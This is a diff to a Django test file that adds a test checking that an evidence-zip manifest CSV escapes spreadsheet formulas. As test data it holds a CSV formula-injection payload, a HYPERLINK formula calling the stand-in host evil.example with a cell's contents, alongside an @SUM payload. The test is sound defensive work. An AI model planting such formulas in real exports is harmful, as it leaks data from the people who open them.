@@ -8,6 +8,7 @@ import zipfile
 
 from django.core.files.uploadedfile import SimpleUploadedFile
 
+from pramern.assessments.models import Record
 from pramern.assessments.services import add_file_evidence, add_link_evidence
 from pramern.reports.models import ReportJob
 from pramern.review.services import set_verdict, transition
@@ -73,3 +74,16 @@ def test_a_job_still_running_is_polled(client, world):
     assert job.status == "queued"
     fragment = client.get(f"/reports/jobs/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
     assert 'hx-trigger="every 2s"' in fragment and "<html" not in fragment
+
+
+def test_the_manifest_does_not_carry_formulas(world):
+    from pramern.reports.evidence_zip import build_evidence_zip
+
+    rec = record(world.a, "1.1.1", "guideline", "2024-03-01")
+    Record.objects.filter(pk=rec.pk).update(title='=HYPERLINK("http://evil.example/"&A2,"open")')
+    add_link_evidence(world.a, "https://example.go.th/x", user=world.alice, title="@SUM(1+1)", records=[rec])
+    stream = io.BytesIO()
+    build_evidence_zip(world.a, "R12", stream)
+    manifest = zipfile.ZipFile(stream).read("manifest.csv").decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(manifest)))[1]
+    assert row[4] == '\'=HYPERLINK("http://evil.example/"&A2,"open")' and row[5] == "'@SUM(1+1)"
